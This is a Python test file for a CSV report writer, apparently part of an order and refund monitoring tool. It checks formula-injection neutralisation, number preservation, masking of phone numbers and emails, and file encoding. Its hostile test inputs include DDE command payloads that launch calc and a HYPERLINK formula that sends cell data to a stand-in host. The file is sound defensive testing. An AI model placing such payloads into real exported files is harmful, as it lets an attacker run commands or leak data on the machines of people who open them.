"""The CSV files: formula injection neutralised (hand-written expected cells), numbers kept
as numbers, personal data masked in free text, and the attachments' Excel-ready encoding."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from checks.result import QUARANTINE_COLUMNS
from reports.outputs import csv_for_people, neutralise, neutralise_cell, write_csvs

HOSTILE = [
    ("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
     "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("=", "'="),
]
KEPT = ["-3.50", "+1", "-0.5e3", "12", "R-2001", "a=b", " =1", "", "中文=1"]


@pytest.mark.parametrize(("raw", "safe"), HOSTILE)
def test_a_formula_gets_a_leading_quote(raw, safe):
    assert neutralise_cell(raw) == safe


@pytest.mark.parametrize("raw", KEPT)
def test_numbers_and_harmless_text_stay(raw):
    assert neutralise_cell(raw) == raw


def test_neutralise_touches_text_columns_only():
    frame = pd.DataFrame({"text": ["=1+1", "-3.50", None], "number": [-3.5, 1.0, 2.0]})
    out = neutralise(frame)
    assert out["text"].tolist()[:2] == ["'=1+1", "-3.50"] and pd.isna(out["text"].iloc[2])
    assert out["number"].tolist() == [-3.5, 1.0, 2.0]
    assert frame["text"].iloc[0] == "=1+1"  # the input is not changed


def test_output_csvs_are_neutralised_and_keep_negative_hours(build, tmp_path):
    f = build.finding
    findings = build.frame([
        f("RT001", "at_risk", "tmall", "=HYPERLINK(\"x\")", refund_id="+cmd|x",
          order_id="@SUM(A1)", due_at="2026-11-20T05:30:00Z",
          detail="-1+1 buyer wrote: call 13812345678"),
    ])
    quarantine = pd.DataFrame(
        [("messages", "M-1", "text", "type", "=1+1 mail a.b@example.com", "=bad"),
         ("orders", "O-1", "amount", "positive", "-3.50", "amount must be positive")],
        columns=QUARANTINE_COLUMNS)
    result = build.result(findings, quarantine=quarantine)
    paths = write_csvs(result, tmp_path)

    rows = list(csv.DictReader(io.StringIO(paths["findings"].read_text("utf-8"))))
    (row,) = rows
    assert row["shop_id"] == "'=HYPERLINK(\"x\")"
    assert row["refund_id"] == "'+cmd|x"
    assert row["order_id"] == "'@SUM(A1)"
    # as_of 02:00Z, due 05:30Z: 3.5 hours left, written as a negative number
    assert row["overdue_hours"] == "-3.50"
    assert row["detail"] == "'-1+1 buyer wrote: call 138****5678"

    q = list(csv.DictReader(io.StringIO(paths["quarantine"].read_text("utf-8"))))
    assert q[0]["value"] == "'=1+1 mail a***@***.com" and q[0]["message"] == "'=bad"
    assert q[1]["value"] == "-3.50"
    assert not paths["findings"].read_bytes().startswith(b"\xef\xbb\xbf")  # data: no BOM


def test_kpis_csv_neutralises_text_and_keeps_values(build, tmp_path):
    kpis = pd.DataFrame(
        [{"platform": "tmall", "shop_id": "=evil", "metric": "late_response_rate",
          "value": 0.125, "threshold": 0.1, "status": "breach", "better": "lower"}])
    paths = write_csvs(build.result(kpis=kpis), tmp_path)
    (row,) = csv.DictReader(io.StringIO(paths["kpis"].read_text("utf-8")))
    assert row["shop_id"] == "'=evil" and row["value"] == "0.125" and row["threshold"] == "0.1"


def test_a_csv_for_people_has_a_bom_crlf_and_neutralised_cells():
    data = csv_for_people(pd.DataFrame({"a": ["=1+1", "退款"], "b": ["-2.00", "x"]}))
    assert data == "\ufeffa,b\r\n'=1+1,-2.00\r\n退款,x\r\n".encode()
